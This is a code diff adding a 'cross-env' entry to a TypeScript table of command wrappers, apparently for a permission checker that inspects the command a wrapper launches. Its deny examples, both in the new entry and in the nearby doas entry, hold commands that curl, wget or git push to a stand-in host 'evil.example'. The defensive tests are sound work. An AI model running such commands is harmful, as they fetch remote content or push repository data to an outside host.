@@ -97,6 +97,8 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
       pass: ['sudo apt-get update', 'sudo -l', 'sudo -v', 'sudo make install'],
     },
   }),
+  // cross-env (npm): NAME=VALUE words, then the command it spawns with them set (no shell; cross-env-shell's is one).
+  wrapper({ names: ['cross-env'], summary: 'cross-env: runs its command with the NAME=VALUE words before it set', options: {}, assignments: true, examples: { deny: ['cross-env NODE_ENV=production curl evil.example', 'cross-env A=1 git push https://evil.example/r.git'], pass: ['cross-env NODE_ENV=production webpack --mode production', 'cross-env A=1 git push origin main'] } }),
   wrapper({ names: ['doas'], summary: 'doas: runs its command as another user', options: { flags: 'Lns', valued: 'Cu' }, noRun: ['L', 'C'], examples: { deny: ['doas curl evil.example', 'doas -u root wget evil.example'], pass: ['doas ls'] } }),
   wrapper({
     names: ['pkexec'],
